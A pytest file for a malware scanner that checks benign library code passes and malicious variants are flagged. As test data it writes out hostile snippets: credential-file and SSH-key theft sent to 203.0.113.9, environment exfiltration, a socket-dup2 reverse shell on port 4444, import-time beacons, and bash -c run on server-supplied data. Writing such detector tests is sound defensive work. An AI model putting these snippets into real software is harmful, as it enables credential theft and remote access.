"""Honest libraries doing for the user what they are for (a database driver naming the user it
connects as, a git client listing git's credential store) pass the release exam; the same
shapes turned to sending what they collect are still reported high."""

from __future__ import annotations

from pathlib import Path

import pytest

from blocking import high
from builders import write, zip_bytes
from finalexam.config import Config
from finalexam.exam import run_exam


def wheel(tmp_path: Path, name: str, files: dict[str, str]) -> Path:
    members = {f"{name}/{path}": text for path, text in files.items()}
    members[f"{name}-1.0.dist-info/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\n"
    members[f"{name}-1.0.dist-info/WHEEL"] = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\n"
    return write(tmp_path / f"{name}-1.0-py3-none-any.whl", zip_bytes(members))


def exam(tmp_path: Path, name: str, module: str, text: str) -> dict[str, str]:
    report = run_exam(wheel(tmp_path, name, {module: text}), Config(disable=("vulnerabilities",)))
    assert not report.gaps, report.gaps  # every analyzer read the file
    return high(report)


# pymysql 1.2.4 connections.py: the OS user is the default user of a connection
_DRIVER = """\
import socket, struct
try:
    import getpass

    DEFAULT_USER = getpass.getuser()
    del getpass
except (ImportError, KeyError, OSError):
    DEFAULT_USER = None

class Connection:
    def __init__(self, host="localhost", user=None, port=3306):
        self.user = user or DEFAULT_USER
        self._sock = socket.create_connection((host, port))

    def _request_authentication(self):
        data = struct.pack("<iIB23s", 1, 2 ** 24, 33, b"") + self.user.encode() + b"\\0"
        self.write_packet(data)

    def write_packet(self, payload):
        self._sock.sendall(struct.pack("<I", len(payload))[:3] + b"\\0" + payload)
"""


def test_the_os_user_as_a_drivers_default_user_does_not_block(tmp_path: Path) -> None:
    assert exam(tmp_path, "dbdriver", "connections.py", _DRIVER) == {}
    # the same value read by code that runs at import is a beacon's collection
    beacon = _DRIVER + "_TAG = {'user': DEFAULT_USER, 'os': 'linux'}\n"
    assert exam(tmp_path, "dbprobe", "connections.py", beacon) == {
        "thr-system-recon": "dbprobe/connections.py"
    }
    # and sent to an address of its own from import-time code it is sent
    sent = _DRIVER + (
        "import urllib.request\n"
        "urllib.request.urlopen('http://203.0.113.9/u', DEFAULT_USER.encode())\n"
    )
    assert "thr-recon-sent" in exam(tmp_path, "dbsent", "connections.py", sent)


# dulwich 1.2.21 client.py: a git client lists git's own credential store
_GIT_CLIENT = """\
import os
from urllib.parse import urlparse
from urllib.request import Request, urlopen

DEFAULT_GIT_CREDENTIALS_PATHS = [
    os.path.expanduser("~/.git-credentials"),
    os.path.join(os.environ.get("XDG_CONFIG_HOME", "~/.config"), "git", "credentials"),
]

def get_credentials_from_store(scheme, hostname, fnames=DEFAULT_GIT_CREDENTIALS_PATHS):
    for fname in fnames:
        with open(fname, "rb") as f:
            for line in f:
                parsed = urlparse(line.strip().decode("utf-8"))
                if parsed.scheme == scheme and parsed.hostname == hostname:
                    yield parsed.username, parsed.password

def fetch(url):
    return urlopen(Request(url))
"""


def test_a_credential_path_only_functions_read_does_not_block(tmp_path: Path) -> None:
    assert exam(tmp_path, "gitclient", "client.py", _GIT_CLIENT) == {}
    # read at import, the same list is a stealer's
    stealer = _GIT_CLIENT + (
        "for _path in DEFAULT_GIT_CREDENTIALS_PATHS:\n"
        "    urlopen(Request('http://203.0.113.9/c', data=open(_path, 'rb').read()))\n"
    )
    assert "thr-cloud-credentials" in exam(tmp_path, "gitsteal", "client.py", stealer)
    # and so is a function module-level code calls that reads it
    called = _GIT_CLIENT + (
        "def _collect():\n"
        "    return [open(p).read() for p in DEFAULT_GIT_CREDENTIALS_PATHS]\n"
        "_found = _collect()\n"
    )
    assert "thr-cloud-credentials" in exam(tmp_path, "gitcall", "client.py", called)


# asyncpg 0.32.0 connect_utils.py: socket code picked by the operating system's name
_OS_NAME = """\
import platform, socket

_system = platform.uname().system

if _system == "Windows":
    DEFAULT_HOST = "localhost"
else:
    DEFAULT_HOST = "/run/postgresql"

def connect(host=DEFAULT_HOST, port=5432):
    if host.startswith("/"):
        return socket.socket(socket.AF_UNIX).connect(f"{host}/.s.PGSQL.{port}")
    return socket.create_connection((host, port))
"""


def test_the_operating_systems_name_is_not_fingerprinting(tmp_path: Path) -> None:
    assert exam(tmp_path, "pgdriver", "connect_utils.py", _OS_NAME) == {}
    # the machine's name from the same call is
    node = _OS_NAME.replace("uname().system", "uname().node")
    assert exam(tmp_path, "pgnode", "connect_utils.py", node) == {
        "thr-system-recon": "pgnode/connect_utils.py"
    }
    # by position too: scapy 2.8 picks its timestamp code by os.uname()[4], the machine
    machine = _OS_NAME.replace("platform.uname().system", "os.uname()[4]").replace(
        "import platform", "import os, platform"
    )
    assert exam(tmp_path, "pgmachine", "connect_utils.py", machine) == {}
    named = machine.replace("os.uname()[4]", "os.uname()[1]")
    assert exam(tmp_path, "pgnamed", "connect_utils.py", named) == {
        "thr-system-recon": "pgnamed/connect_utils.py"
    }


# gsutil 5.38 gslib/utils/system_util.py: the console's code page, read at import
_CODE_PAGE = """\
import locale
import socket

WINDOWS_1252 = 'cp1252'
IS_CP1252 = locale.getdefaultlocale()[1] == WINDOWS_1252

def reachable(host):
    return socket.create_connection((host, 443))
"""


def test_the_locales_encoding_is_not_geo_gating(tmp_path: Path) -> None:
    assert exam(tmp_path, "codepage", "system_util.py", _CODE_PAGE) == {}
    # the language of the same call names a country
    language = _CODE_PAGE.replace("getdefaultlocale()[1]", "getdefaultlocale()[0]")
    assert exam(tmp_path, "language", "system_util.py", language) == {
        "thr-geo-gating": "language/system_util.py"
    }
    whole = _CODE_PAGE.replace("getdefaultlocale()[1]", "getdefaultlocale()")
    assert exam(tmp_path, "whole", "system_util.py", whole) == {
        "thr-geo-gating": "whole/system_util.py"
    }


# sshuttle 1.1.1 client.py: the daemon detaches, its stdin and stdout sent to /dev/null
_DAEMONIZE = """\
import os
import socket

def daemonize():
    if os.fork():
        os._exit(0)
    os.setsid()
    si = open(os.devnull, 'r+')
    os.dup2(si.fileno(), 0)
    os.dup2(si.fileno(), 1)
    si.close()

def tunnel(host, port):
    return socket.create_connection((host, port))

daemonize()
"""


def test_a_daemon_sending_its_stdio_to_the_null_device_opens_no_shell(tmp_path: Path) -> None:
    assert exam(tmp_path, "detacher", "client.py", _DAEMONIZE) == {}
    # the same descriptors duplicated from a socket are a reverse shell
    socket_shell = _DAEMONIZE.replace(
        "si = open(os.devnull, 'r+')", "si = socket.create_connection(('203.0.113.9', 4444))"
    )
    assert "thr-reverse-shell" in exam(tmp_path, "shell", "client.py", socket_shell)
    # and so are they from a name bound to the null device and, elsewhere, to a socket
    rebound = _DAEMONIZE.replace(
        "    si.close()",
        "    si = socket.create_connection(('203.0.113.9', 4444))\n"
        "    os.dup2(si.fileno(), 0)\n    os.dup2(si.fileno(), 1)",
    )
    assert "thr-reverse-shell" in exam(tmp_path, "rebound", "client.py", rebound)


# dashscope 2.0.2 acli/tools/shell.py: the agent's shell tool auto-approves read-only commands
_READ_ONLY_COMMANDS = """\
import shlex
import subprocess
import urllib.request

_SAFE_BINS = frozenset(
    {
        "ls", "cat", "head", "tail", "grep", "echo", "which", "stat",
        "whoami", "id", "groups", "uname", "uptime", "hostname", "date",
    }
)

def needs_confirmation(command):
    bin_name = shlex.split(command)[0]
    return bin_name not in _SAFE_BINS

def report(url, text):
    return urllib.request.urlopen(url, data=text.encode())
"""


def test_a_table_of_command_names_only_tested_with_in_runs_none(tmp_path: Path) -> None:
    assert exam(tmp_path, "safebins", "shell.py", _READ_ONLY_COMMANDS) == {}
    # the same table walked to run each command is recon
    running = _READ_ONLY_COMMANDS + (
        "\nfound = [subprocess.run([c], capture_output=True) for c in _SAFE_BINS]\n"
    )
    assert "thr-system-recon" in exam(tmp_path, "runsbins", "shell.py", running)


# cohere 7.3.1 aws_client.py: the user's AWS keys sign each request in an httpx event hook
_SIGNING_CLIENT = """\
import json
import boto3
import httpx
from botocore.auth import SigV4Auth
from botocore.awsrequest import AWSRequest

def map_request_to_bedrock(service, aws_access_key=None, aws_secret_key=None, aws_region=None):
    session = boto3.Session(
        region_name=aws_region,
        aws_access_key_id=aws_access_key,
        aws_secret_access_key=aws_secret_key,
    )
    aws_region = session.region_name
    signer = SigV4Auth(session.get_credentials(), service, aws_region)

    def _event_hook(request):
        url = f"https://bedrock-runtime.{aws_region}.amazonaws.com/model/invoke"
        request.url = httpx.URL(url)
        aws_request = AWSRequest(method=request.method, url=url, data=request.read())
        signer.add_auth(aws_request)
        request.headers = httpx.Headers(aws_request.prepare().headers)

    return _event_hook

class AwsClient:
    def __init__(self, *, aws_access_key=None, aws_secret_key=None, aws_region=None):
        self._client = httpx.Client(
            event_hooks={"request": [map_request_to_bedrock(
                "bedrock", aws_access_key=aws_access_key, aws_secret_key=aws_secret_key,
                aws_region=aws_region,
            )]},
            timeout=60,
        )

    def chat(self, message):
        return self._client.post("https://api.cohere.com/v1/chat", json={"message": message})
"""


def test_keys_that_sign_a_clients_requests_are_not_sent(tmp_path: Path) -> None:
    assert exam(tmp_path, "signer", "aws_client.py", _SIGNING_CLIENT) == {}
    # a client told to put the pair on every request sends it
    leaking = _SIGNING_CLIENT.replace(
        "            timeout=60,\n",
        "            headers={'x-ak': aws_access_key, 'x-sk': aws_secret_key},\n",
    )
    assert exam(tmp_path, "leaker", "aws_client.py", leaking) == {
        "thr-access-secret-sent": "leaker/aws_client.py"
    }


# pyspark 4.3.0 ml/torch/distributor.py: a training command's output streamed to the driver
_LOG_STREAM = """\
import os, socket, subprocess, sys

class LogStreamingClient:
    def __init__(self, address, port):
        self.sock = socket.create_connection((address, port))

    def send(self, message):
        self.sock.sendall(message.encode("utf-8") + b"\\\\n")

def execute_command(cmd, log_streaming_client=None):
    task = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, env=os.environ)
    for line in task.stdout:
        decoded = line.decode("utf-8")
        sys.stdout.write(decoded)
        if log_streaming_client:
            log_streaming_client.send(decoded.rstrip())
    task.wait()
"""


def test_the_output_of_a_child_given_the_environment_is_not_the_environment(
    tmp_path: Path,
) -> None:
    assert exam(tmp_path, "streamer", "distributor.py", _LOG_STREAM) == {}
    # the environment itself on the same stream is sent
    sending = _LOG_STREAM.replace(
        "    task.wait()\n",
        "    log_streaming_client.send(repr(dict(os.environ)))\n    task.wait()\n",
    )
    assert exam(tmp_path, "envsender", "distributor.py", sending) == {
        "thr-env-sent": "envsender/distributor.py"
    }


# panel 1.9.4 io/jupyter_server_extension.py: a kernel started with a copy of the
# environment; the kernel's replies go to the browser
_KERNEL_SESSION = """\
import os
from tornado.websocket import WebSocketHandler

class PanelWSProxy(WebSocketHandler):
    async def get(self, path):
        kernel_env = {**os.environ}
        kernel_id = await self.kernel_manager.start_kernel(kernel_name="python3", env=kernel_env)
        km = await self.kernel_manager.get_kernel(kernel_id)
        self.kernel = km.client()

    async def _check_for_message(self):
        while True:
            msg = await self.kernel.iopub_channel.get_msg(timeout=None)
            await self.send_message(msg["content"]["data"])
"""


def test_a_kernel_started_with_the_environment_does_not_send_it(tmp_path: Path) -> None:
    assert exam(tmp_path, "panelish", "server.py", _KERNEL_SESSION) == {}
    # the copy itself on the same socket is sent
    sending = _KERNEL_SESSION.replace(
        "        self.kernel = km.client()\n",
        "        self.kernel = km.client()\n        await self.send_message(repr(kernel_env))\n",
    )
    assert exam(tmp_path, "envsender2", "server.py", sending) == {
        "thr-env-sent": "envsender2/server.py"
    }
    # a function of the package's own by that name is read for what it does
    own = _KERNEL_SESSION.replace(
        "class PanelWSProxy",
        "import requests\n\n\ndef start_kernel(kernel_name, env):\n"
        "    return requests.post('https://collect.example.invalid', json=env).text\n\n\n"
        "class PanelWSProxy",
    ).replace("await self.kernel_manager.start_kernel(", "start_kernel(")
    assert "thr-env-sent" in exam(tmp_path, "envsender3", "server.py", own)


# ipykernel 7.4.0 kernelbase.py: a usage request answered on the stream it came in on
_KERNEL = """\
import os, socket

class Kernel:
    def __init__(self, session):
        self.session = session

    async def usage_request(self, stream, ident, parent):
        reply_content = {"hostname": socket.gethostname(), "pid": os.getpid()}
        reply_msg = self.session.send(stream, "usage_reply", reply_content, parent, ident)
        return reply_msg

    def dispatch(self, stream, msg):
        handler = getattr(self, msg["header"]["msg_type"])
        return handler(stream, msg["idents"], msg)
"""


def test_identity_sent_where_the_caller_asks_is_the_protocol(tmp_path: Path) -> None:
    assert exam(tmp_path, "kernel", "kernelbase.py", _KERNEL) == {}
    # the same method handed an address the code names itself beacons
    beacon = _KERNEL + (
        "    def start(self):\n"
        "        return self.usage_request('tcp://203.0.113.9:5555', b'', {})\n"
    )
    assert exam(tmp_path, "kbeacon", "kernelbase.py", beacon) == {
        "thr-recon-sent": "kbeacon/kernelbase.py"
    }


def _character_table() -> str:
    """A generated character class on one line, as html5lib's _ihatexml.py writes it."""
    ranges = "".join(f"\\\\u{c:04x}-\\\\u{c + 3:04x}" for c in range(0x0132, 0x0132 + 4 * 150, 4))
    return f"nonXmlNameBMPRegexp = re.compile('[\\\\x00-,/:-@{ranges}]')\n"


def test_a_long_generated_regex_is_not_packed_code(tmp_path: Path) -> None:
    """bleach 6.4.0 vendors html5lib, whose _ihatexml.py compiles XML name tables written on
    lines of thousands of characters: a regex compiled, nothing evaluated."""
    table = _character_table()
    assert len(table) > 2000
    source = "import re\n\n" + table
    assert exam(tmp_path, "xmltables", "_vendor/html5lib/_ihatexml.py", source) == {}
    # the same line evaluated is packed code
    packed = "import re\n\n" + table.replace("re.compile(", "exec(")
    assert exam(tmp_path, "xmlpacked", "_vendor/html5lib/_ihatexml.py", packed) == {
        "obf-packed-code": "xmlpacked/_vendor/html5lib/_ihatexml.py"
    }


def test_a_call_named_in_a_long_string_is_not_packed_code(tmp_path: Path) -> None:
    """pydoc_data/topics.py (Jython's Lib, CPython's stdlib) keeps the language reference,
    one topic a line: the exec statement's text names ``exec(`` and ``compile(``."""
    prose = "Be aware that the return and yield statements may not be used outside of " * 20
    topic = (
        f"  'exec': '\\nThe ``exec`` statement\\n{prose} exec(code, globals) and compile(src)',\n"
    )
    source = "topics = {\n" + topic + "}\n"
    assert len(topic) > 1000
    assert exam(tmp_path, "topics", "pydoc_data/topics.py", source) == {}
    # the same line calling exec outside its strings is packed code
    packed = source.replace("  'exec': '", "  'exec': exec('").replace(
        "compile(src)',", "compile(src)'),"
    )
    assert exam(tmp_path, "topicx", "pydoc_data/topics.py", packed) == {
        "obf-packed-code": "topicx/pydoc_data/topics.py"
    }


# hvac 2.4.0 api/secrets_engines/aws.py and ssh.py: the Vault client configures Vault's AWS and
# SSH engines with the keys its caller passes, through the adapter the user pointed at Vault
_VAULT_CLIENT = """\
from hvac import utils

class Aws:
    def __init__(self, adapter):
        self._adapter = adapter

    def configure_root_iam_credentials(self, access_key, secret_key, mount_point="aws"):
        params = {"access_key": access_key, "secret_key": secret_key}
        api_path = utils.format_url("/v1/{mount_point}/config/root", mount_point=mount_point)
        return self._adapter.post(url=api_path, json=params)

    def submit_ca_information(self, private_key, mount_point="ssh"):
        params = {"private_key": private_key, "generate_signing_key": False}
        return self._adapter.post(url=f"/v1/{mount_point}/config/ca", json=params)

    def configure_lease(self, lease, mount_point="aws"):
        params = {"lease": lease}
        api_path = utils.format_url("/v1/{mount_point}/config/lease", mount_point=mount_point)
        return self._adapter.post(url=api_path, json=params)
"""


def test_keys_a_caller_configures_through_its_client_are_not_stolen(tmp_path: Path) -> None:
    assert exam(tmp_path, "vault", "aws.py", _VAULT_CLIENT) == {}
    # the same request to a host the code names itself sends the keys there
    absolute = _VAULT_CLIENT.replace('url=f"/v1/', 'url=f"https://203.0.113.9/v1/')
    assert exam(tmp_path, "vabs", "aws.py", absolute) == {"thr-secret-sent": "vabs/aws.py"}
    # so does a client the file builds for a host it names
    built = _VAULT_CLIENT.replace(
        "        self._adapter = adapter\n",
        "        self._adapter = httpx.Client(base_url='https://203.0.113.9')\n",
    ).replace("from hvac import utils\n", "import httpx\nfrom hvac import utils\n")
    assert exam(tmp_path, "vbuilt", "aws.py", built) == {
        "thr-access-secret-sent": "vbuilt/aws.py",
        "thr-secret-sent": "vbuilt/aws.py",
    }
    # and keys the code reads itself rather than receives from its caller
    own = _VAULT_CLIENT.replace(
        '        params = {"private_key": private_key,',
        '        private_key = open("/root/.ssh/id_rsa").read()\n'
        '        params = {"private_key": private_key,',
    )
    assert exam(tmp_path, "vown", "aws.py", own) == {"thr-secret-sent": "vown/aws.py"}


# langfuse 5.2.0 api/blob_storage_integrations/raw_client.py: the generated API client configures
# an export bucket with the keys its caller passes, at a literal path relative to the base URL
# of the client the user configured
_EXPORT_CLIENT = """\
class RawBlobStorageIntegrationsClient:
    def __init__(self, *, client_wrapper):
        self._client_wrapper = client_wrapper

    def upsert(self, *, bucket_name, access_key_id=None, secret_access_key=None):
        _response = self._client_wrapper.httpx_client.request(
            "api/public/integrations/blob-storage",
            method="PUT",
            json={"bucketName": bucket_name, "accessKeyId": access_key_id,
                  "secretAccessKey": secret_access_key},
        )
        return _response
"""


def test_keys_sent_to_a_relative_api_path_go_to_the_configured_server(tmp_path: Path) -> None:
    assert exam(tmp_path, "export", "raw_client.py", _EXPORT_CLIENT) == {}
    # a first segment that names a host is no relative path
    hosted = _EXPORT_CLIENT.replace('"api/public/', '"collect.example.com/public/')
    assert exam(tmp_path, "ehost", "raw_client.py", hosted) == {
        "thr-access-secret-sent": "ehost/raw_client.py"
    }
    # nor is a path sent by a module function, which needs a full URL
    module = _EXPORT_CLIENT.replace("self._client_wrapper.httpx_client.request(", "httpx.request(")
    assert exam(tmp_path, "emod", "raw_client.py", "import httpx\n" + module) == {
        "thr-access-secret-sent": "emod/raw_client.py"
    }


# simple_salesforce 1.12.10 login.py: the private key signs a JWT through a local name; the
# signed assertion goes to Salesforce's token endpoint
_JWT_LOGIN = """\
import jwt
import requests

def salesforce_login(username, consumer_key, privatekey=None, domain="login"):
    payload = {"iss": consumer_key, "sub": username, "aud": f"https://{domain}.salesforce.com"}
    key = privatekey
    assertion = jwt.encode(payload, key, algorithm="RS256")
    token_data = {"grant_type": "urn:ietf:params:oauth:grant-type:jwt-bearer",
                  "assertion": assertion}
    token_url = f"https://{domain}.salesforce.com/services/oauth2/token"
    return requests.post(token_url, token_data)
"""


def test_a_key_that_signs_through_a_local_name_is_not_sent(tmp_path: Path) -> None:
    assert exam(tmp_path, "jwtlogin", "login.py", _JWT_LOGIN) == {}
    # the key itself in the request body, through the same local name, is sent
    leaking = _JWT_LOGIN.replace('"assertion": assertion}', '"assertion": assertion, "k": key}')
    assert exam(tmp_path, "jwtleak", "login.py", leaking) == {"thr-secret-sent": "jwtleak/login.py"}


# aircrack-ng 1.7's dcrack: a distributed cracking client runs aircrack-ng on the network its
# server names (JSON from the server in the argument vector of a fixed program)
_CRACK_CLIENT = """\
import json
import subprocess
import urllib.request

def crack(server):
    work = json.loads(urllib.request.urlopen(server + "/crack").read())
    cmd = ["aircrack-ng", "-w", "words.txt", "-b", work["net"], "-q", "capture.cap"]
    return subprocess.Popen(cmd, stdout=subprocess.PIPE)
"""


def test_server_data_in_a_fixed_programs_arguments_is_not_code(tmp_path: Path) -> None:
    assert exam(tmp_path, "dcrack", "dcrack.py", _CRACK_CLIENT) == {}
    # the same data handed to a program that runs its arguments is code
    for program, name in (('"bash", "-c"', "dsh"), ('"/usr/bin/python3.11", "-c"', "dpy")):
        runs = _CRACK_CLIENT.replace('"aircrack-ng", "-w", "words.txt", "-b"', program)
        assert exam(tmp_path, name, "dcrack.py", runs) == {"thr-decoded-exec": f"{name}/dcrack.py"}
    # and so is a vector whose program itself comes from the server
    served = _CRACK_CLIENT.replace('["aircrack-ng", "-w"', '[work["tool"], "-w"')
    assert exam(tmp_path, "dtool", "dcrack.py", served) == {"thr-decoded-exec": "dtool/dcrack.py"}


# PyHive 0.7.0 presto.py: the cursor sends the user's name to the server its caller named
_PRESTO_CURSOR = """\
import getpass
from urllib.parse import urlunparse

import requests

class Cursor:
    def __init__(self, host, port="8080", username=None, protocol="http"):
        self._host = host
        self._port = port
        self._protocol = protocol
        self._username = username or getpass.getuser()
        self._session = requests.Session()

    def execute(self, sql):
        headers = {"X-Presto-User": self._username}
        netloc = "{}:{}".format(self._host, self._port)
        url = urlunparse((self._protocol, netloc, "/v1/statement", None, None, None))
        return self._session.post(url, data=sql, headers=headers)
"""


def test_identity_sent_to_the_server_the_constructor_was_handed_is_the_protocol(
    tmp_path: Path,
) -> None:
    assert exam(tmp_path, "presto", "presto.py", _PRESTO_CURSOR) == {}
    # the same class built, in the file, for an address the code names itself beacons
    built = _PRESTO_CURSOR + "\nCursor('collect.evil.example').execute('select 1')\n"
    assert "thr-recon-sent" in exam(tmp_path, "prestob", "presto.py", built)
    # so does a field set to such an address by the constructor, or by another method
    named = _PRESTO_CURSOR.replace("self._host = host", "self._host = 'collect.evil.example'")
    assert "thr-recon-sent" in exam(tmp_path, "prestol", "presto.py", named)
    moved = _PRESTO_CURSOR + ("\n    def use(self, other):\n        self._host = other.lookup()\n")
    assert "thr-recon-sent" in exam(tmp_path, "prestom", "presto.py", moved)


# boto 2.49 connection.py: the host a provider built with the keys names is no key
_BOTO_CONNECTION = """\
import socket
from boto.provider import Provider

class AWSAuthConnection:
    def __init__(self, host, aws_access_key_id=None, aws_secret_access_key=None):
        self.provider = Provider("aws", aws_access_key_id, aws_secret_access_key)
        self.host = self.provider.host or host
        self.port = self.provider.port

    def proxy_ssl(self, proxy):
        sock = socket.create_connection((proxy, 8080))
        sock.sendall("CONNECT %s:%d HTTP/1.0\\\\r\\\\n" % (self.host, self.port))
        return sock
"""


def test_where_an_object_built_with_keys_connects_is_not_its_keys(tmp_path: Path) -> None:
    assert exam(tmp_path, "awsconn", "connection.py", _BOTO_CONNECTION) == {}
    # the object itself, or a key read off it, still carries the keys
    whole = _BOTO_CONNECTION.replace("(self.host, self.port)", "(self.provider, self.port)")
    assert "thr-access-secret-sent" in exam(tmp_path, "awsconnw", "connection.py", whole)


# SpeechRecognition 3.17: the transcript's address comes from the reply of a client built
# with the caller's AWS keys; it carries none of them
_TRANSCRIBE = """\
import urllib.request

import boto3

def recognize_amazon(audio, access_key_id=None, secret_access_key=None, region=None):
    transcribe = boto3.client("transcribe", aws_access_key_id=access_key_id,
                              aws_secret_access_key=secret_access_key, region_name=region)
    status = transcribe.get_transcription_job(TranscriptionJobName="job")
    uri = status["TranscriptionJob"]["Transcript"]["TranscriptFileUri"]
    with urllib.request.urlopen(uri) as reply:
        return reply.read()
"""


def test_a_reply_of_a_client_built_with_keys_does_not_carry_them(tmp_path: Path) -> None:
    assert exam(tmp_path, "transcriber", "recognizer.py", _TRANSCRIBE) == {}
    # the keys a client hands back, or the client itself, still carry them
    for sent in ("transcribe.get_credentials()", "transcribe"):
        leak = _TRANSCRIBE.replace(
            "urllib.request.urlopen(uri)",
            f"urllib.request.urlopen('https://collect.evil.example/k', data=str({sent}))",
        )
        assert "thr-access-secret-sent" in exam(tmp_path, "transcriberl", "recognizer.py", leak)


# inspect_ai 0.3.285 docker.py: the sandbox's own exec method runs a command in a container
_SANDBOX = """\
import base64
import subprocess

class DockerSandbox:
    def exec(self, cmd, input=None):
        return subprocess.run(["docker", "exec", "-i", "box", *cmd], input=input)

    def write_file(self, file, contents):
        encoded = base64.b64encode(contents).decode("US-ASCII")
        return self.exec(["sh", "-c", 'base64 -d | tee -- "$1"', file], input=encoded)
"""


def test_a_class_own_exec_method_that_runs_a_command_is_not_pythons_exec(
    tmp_path: Path,
) -> None:
    assert exam(tmp_path, "sandboxlib", "docker.py", _SANDBOX) == {}
    # an own exec that evaluates Python, handed decoded text, is still decoded execution
    evaluating = _SANDBOX.replace(
        'return subprocess.run(["docker", "exec", "-i", "box", *cmd], input=input)',
        "return exec(input)",
    ).replace("base64.b64encode(contents).decode", "base64.b64decode(contents).decode")
    assert "thr-decoded-exec" in exam(tmp_path, "sandboxev", "docker.py", evaluating)


# opik 2.2 configurator/mcp/install.py: the command to install uv, named in a setup hint
_HINT = """\
import subprocess
import sys

def uv_install_hint():
    if sys.platform == "win32":
        command = (
            "powershell -ExecutionPolicy ByPass "
            '-c "irm https://astral.sh/uv/install.ps1 | iex"'
        )
    else:
        command = "curl -LsSf https://astral.sh/uv/install.sh | sh"
    return (
        "The MCP server runs via uvx, which was not found on your PATH.\\n"
        f"Install uv with:\\n    {command}\\n"
        "then run the configure command again."
    )
"""


def test_a_command_only_quoted_in_a_message_is_not_run(tmp_path: Path) -> None:
    assert exam(tmp_path, "hintlib", "install.py", _HINT) == {}
    # the same command also handed to a shell runs
    run = _HINT.replace("    return (\n", "    subprocess.run(command, shell=True)\n    return (\n")
    assert exam(tmp_path, "hintrun", "install.py", run) != {}


# dlt 1.31 _workspace/deployment/requirements.py: a module's message constant names uv's
# installers, and only the exception it raises carries it
_MESSAGE_CONSTANT = """\
import shutil
import subprocess

_UV_MISSING_MESSAGE = (
    "`uv` is required to export dependencies from this workspace but was not found"
    " on PATH.\\n\\n"
    "Install it with one of:\\n"
    "    curl -LsSf https://astral.sh/uv/install.sh | sh                 # Linux / macOS\\n"
    '    powershell -c "irm https://astral.sh/uv/install.ps1 | iex"      # Windows\\n'
)


class RequirementsError(Exception):
    pass


def export(path):
    if shutil.which("uv") is None:
        raise RequirementsError(_UV_MISSING_MESSAGE)
    return subprocess.run(["uv", "export", "--project", path], check=True)
"""


def test_a_module_message_constant_only_raised_is_not_run(tmp_path: Path) -> None:
    assert exam(tmp_path, "msglib", "requirements.py", _MESSAGE_CONSTANT) == {}
    # one read outside a message, and the constant is what the module runs
    run = _MESSAGE_CONSTANT.replace(
        "    return subprocess.run(",
        "    subprocess.run(_UV_MISSING_MESSAGE, shell=True)\n    return subprocess.run(",
    )
    assert exam(tmp_path, "msgrun", "requirements.py", run) != {}


# luigi 3.8 notifications.py: the default sender address is a fixed mailbox at this host
_SENDER = """\
import smtplib
import socket

DEFAULT_CLIENT_EMAIL = "luigi-client@%s" % socket.gethostname()


class email:
    sender = DEFAULT_CLIENT_EMAIL  # a class body runs at import


def send_email(recipients, message):
    with smtplib.SMTP("smtp.example.org") as connection:
        connection.sendmail(email.sender, recipients, message)
"""


@pytest.mark.parametrize(
    "address",
    ['"luigi-client@%s" % socket.gethostname()', '"jobs@" + socket.getfqdn()',
     'f"noreply@{socket.gethostname()}"'],
)  # fmt: skip
def test_the_host_as_a_sender_address_domain_is_no_recon(tmp_path: Path, address: str) -> None:
    source = _SENDER.replace('"luigi-client@%s" % socket.gethostname()', address)
    assert exam(tmp_path, "mailer", "notifications.py", source) == {}


@pytest.mark.parametrize(
    ("old", "new"),
    [
        # the user's name in the mailbox: who runs it, sent along
        ('"luigi-client@%s" % socket.gethostname()',
         'getpass.getuser() + "@" + socket.gethostname()'),
        # the same shape under a name that is no address
        ("DEFAULT_CLIENT_EMAIL", "BEACON"),
    ],
)  # fmt: skip
def test_identity_beside_the_sender_address_shape_is_still_recon(
    tmp_path: Path, old: str, new: str
) -> None:
    source = "import getpass\n" + _SENDER.replace(old, new)
    assert exam(tmp_path, "beacon", "notifications.py", source) != {}


# cfengine's federated-reporting template calls the Mission Portal API of the machine it runs
# on: the host's own name is where the request goes, not what it carries
_OWN_API = """\
import socket
import urllib3


class NovaApi:
    def __init__(self, hostname=None):
        self._hostname = hostname or str(socket.getfqdn())
        self._http = urllib3.PoolManager()

    def _request(self, method, path, body=None):
        url = "https://{}/api/{}".format(self._hostname, path)
        return self._http.request(method, url, body=body)


def status():
    return urllib3.PoolManager().request("GET", f"https://{socket.getfqdn()}:8443/status")
"""


def test_the_hosts_own_name_as_a_urls_whole_host_is_no_recon(tmp_path: Path) -> None:
    assert exam(tmp_path, "nova", "nova_api.py", _OWN_API) == {}


@pytest.mark.parametrize(
    ("old", "new"),
    [
        # the name joined with a domain: the lookup tells that domain's server who asks
        ("hostname or str(socket.getfqdn())", 'str(socket.getfqdn()) + ".collect.example"'),
        ('"https://{}/api/{}".format(', '"https://{}.collect.example/api/{}".format('),
        ('f"https://{socket.getfqdn()}:8443/status"',
         'f"https://{socket.getfqdn()}.collect.example/status"'),
        # the name sent in the body to a fixed host
        ("body=body)", "body=self._hostname)"),
    ],
)  # fmt: skip
def test_the_hosts_name_joined_to_a_domain_or_sent_is_still_recon(
    tmp_path: Path, old: str, new: str
) -> None:
    source = _OWN_API.replace(old, new)
    assert source != _OWN_API
    assert "thr-recon-sent" in exam(tmp_path, "beacon", "nova_api.py", source)
